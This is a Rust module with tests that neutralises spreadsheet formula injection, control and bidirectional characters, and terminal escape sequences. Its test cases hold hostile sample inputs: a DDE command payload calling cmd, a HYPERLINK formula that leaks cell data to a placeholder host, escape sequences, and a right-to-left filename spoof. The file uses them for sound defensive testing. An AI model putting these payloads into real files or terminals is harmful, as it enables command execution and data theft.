//! Text made safe for where it goes: spreadsheet cells (no formula injection, no control
//! characters), terminal lines (no escape sequences, no direction overrides), and the test of
//! which characters a declaration must never hold (control, bidirectional-override and
//! private-use characters).

/// Characters that make a spreadsheet (Excel, WPS, LibreOffice) read a cell as a formula when
/// they start it, after OWASP's "CSV injection" advice, plus their full-width forms, which WPS
/// also accepts.
const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// Whether `c` is a bidirectional control: the embeddings and overrides U+202A–U+202E, the
/// isolates U+2066–U+2069, and the marks U+200E, U+200F, U+061C. They can make text read
/// differently from what it holds (U+202E before "txt.exe" shows it as "exe.txt").
pub fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}')
}

/// Whether `c` is in a private-use area (no agreed meaning: shows differently on each computer).
pub fn is_private_use(c: char) -> bool {
    matches!(c, '\u{e000}'..='\u{f8ff}' | '\u{f0000}'..='\u{ffffd}' | '\u{100000}'..='\u{10fffd}')
}

/// Whether a declaration may never hold `c` anywhere: a control character other than the line
/// break of multi-line answers, a bidirectional control, or a private-use character.
pub fn is_forbidden_in_declaration(c: char) -> bool {
    (c.is_control() && c != '\n') || is_bidi_control(c) || is_private_use(c)
}

/// How people read a forbidden character: "U+202E（文字方向控制符）".
pub fn describe_forbidden(c: char) -> String {
    let kind = if c.is_control() {
        "控制字符"
    } else if is_bidi_control(c) {
        "文字方向控制符"
    } else {
        "私用区字符"
    };
    format!("U+{:04X}（{kind}）", c as u32)
}

/// The text of one spreadsheet cell, safe to open: line breaks become "\n"; tabs become spaces;
/// other control and bidirectional-control characters become "�" (U+FFFD), so that nothing
/// hidden reaches the file; a cell whose first non-blank character could start a formula
/// (`= + - @`, tab, CR or full-width `＝＋－＠`) gets a leading `'`, which Excel and WPS show
/// as text. Returns the text and whether it was neutralised.
pub fn spreadsheet_text(text: &str) -> (String, bool) {
    let starts_formula = text
        .chars()
        .find(|c| !matches!(c, ' ' | '\u{3000}'))
        .is_some_and(|c| FORMULA_STARTS.contains(&c));
    let mut out = String::with_capacity(text.len() + 1);
    if starts_formula {
        out.push('\'');
    }
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\r' => {
                if chars.peek() == Some(&'\n') {
                    chars.next();
                }
                out.push('\n');
            }
            '\n' => out.push('\n'),
            '\t' => out.push(' '),
            c if c.is_control() || is_bidi_control(c) => out.push('\u{fffd}'),
            c => out.push(c),
        }
    }
    (out, starts_formula)
}

/// One CSV field (RFC 4180) made with [`spreadsheet_text`]: quoted when it holds a comma, a
/// quote or a line break, or when it was neutralised (so the `'` stays part of the text).
pub fn csv_field(text: &str) -> String {
    let (text, neutralised) = spreadsheet_text(text);
    if neutralised || text.contains([',', '"', '\n']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text
    }
}

/// One CSV line, ending with CRLF.
pub fn csv_line(cells: &[String]) -> String {
    let mut line = cells
        .iter()
        .map(|c| csv_field(c))
        .collect::<Vec<_>>()
        .join(",");
    line.push_str("\r\n");
    line
}

/// Text for one line of a terminal or a tab-separated listing: line breaks and tabs become
/// spaces; other control and bidirectional-control characters become "�", so no escape
/// sequence reaches the terminal.
pub fn terminal_line(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            '\n' | '\r' | '\t' => ' ',
            c if c.is_control() || is_bidi_control(c) => '\u{fffd}',
            c => c,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_never_start_a_formula_nor_hold_control_characters() {
        // (cell text, CSV field written)
        let rows: &[(&str, &str)] = &[
            ("桐庐县", "桐庐县"),
            ("", ""),
            ("a,b", "\"a,b\""),
            ("说\"好\"", "\"说\"\"好\"\"\""),
            ("第一段\n第二段", "\"第一段\n第二段\""),
            ("第一段\r\n第二段\r第三段", "\"第一段\n第二段\n第三段\""),
            ("0571-87654321", "0571-87654321"),
            ("2021-06-30", "2021-06-30"),
            ("a=b", "a=b"),
            // The hostile cells.
            (
                "=HYPERLINK(\"http://x/\"&B2,\"详情\")",
                "\"'=HYPERLINK(\"\"http://x/\"\"&B2,\"\"详情\"\")\"",
            ),
            (
                "@SUM(1+9)*cmd|' /C calc'!A0",
                "\"'@SUM(1+9)*cmd|' /C calc'!A0\"",
            ),
            ("+1+1", "\"'+1+1\""),
            ("-2+3", "\"'-2+3\""),
            ("\t=2+2", "\"' =2+2\""),
            ("\r=2+2", "\"'\n=2+2\""),
            ("＝1+1", "\"'＝1+1\""),
            ("＋1", "\"'＋1\""),
            ("－1", "\"'－1\""),
            ("＠A1", "\"'＠A1\""),
            ("  =1+1", "\"'  =1+1\""),
            ("\u{3000}=1+1", "\"'\u{3000}=1+1\""),
            // Hidden characters never reach the file.
            ("a\u{1b}[31mb", "a\u{fffd}[31mb"),
            ("a\0b\u{7f}c\u{85}d", "a\u{fffd}b\u{fffd}c\u{fffd}d"),
            ("abc\u{202e}txt.exe", "abc\u{fffd}txt.exe"),
            ("\u{2066}x\u{2069}", "\u{fffd}x\u{fffd}"),
            ("a\tb", "a b"),
        ];
        for (text, field) in rows {
            assert_eq!(csv_field(text), *field, "{text:?}");
        }
        assert_eq!(
            csv_line(&["x".into(), "y,z".into(), String::new(), "=1".into()]),
            "x,\"y,z\",,\"'=1\"\r\n"
        );
    }

    #[test]
    fn terminal_lines_hold_no_escape_sequences() {
        for (text, line) in [
            ("桐庐县", "桐庐县"),
            ("a\tb\nc\r\n", "a b c  "),
            (
                "\u{1b}[2J\u{1b}]0;x\u{7}",
                "\u{fffd}[2J\u{fffd}]0;x\u{fffd}",
            ),
            ("\u{9b}31m", "\u{fffd}31m"),
            ("a\u{202e}b\u{200f}", "a\u{fffd}b\u{fffd}"),
        ] {
            assert_eq!(terminal_line(text), line, "{text:?}");
        }
    }

    #[test]
    fn forbidden_characters_of_a_declaration() {
        // (character, forbidden?)
        for (c, forbidden) in [
            ('a', false),
            ('桐', false),
            ('\n', false),
            (' ', false),
            ('\u{3000}', false),
            ('（', false),
            ('\t', true),
            ('\r', true),
            ('\0', true),
            ('\u{1b}', true),
            ('\u{7f}', true),
            ('\u{85}', true),
            ('\u{9b}', true),
            ('\u{200e}', true),
            ('\u{200f}', true),
            ('\u{202a}', true),
            ('\u{202e}', true),
            ('\u{2066}', true),
            ('\u{2069}', true),
            ('\u{061c}', true),
            ('\u{e000}', true),
            ('\u{f8ff}', true),
            ('\u{f0000}', true),
            ('\u{10fffd}', true),
        ] {
            assert_eq!(
                is_forbidden_in_declaration(c),
                forbidden,
                "U+{:04X}",
                c as u32
            );
        }
        assert_eq!(describe_forbidden('\u{202e}'), "U+202E（文字方向控制符）");
        assert_eq!(describe_forbidden('\u{1b}'), "U+001B（控制字符）");
        assert_eq!(describe_forbidden('\u{e000}'), "U+E000（私用区字符）");
    }
}
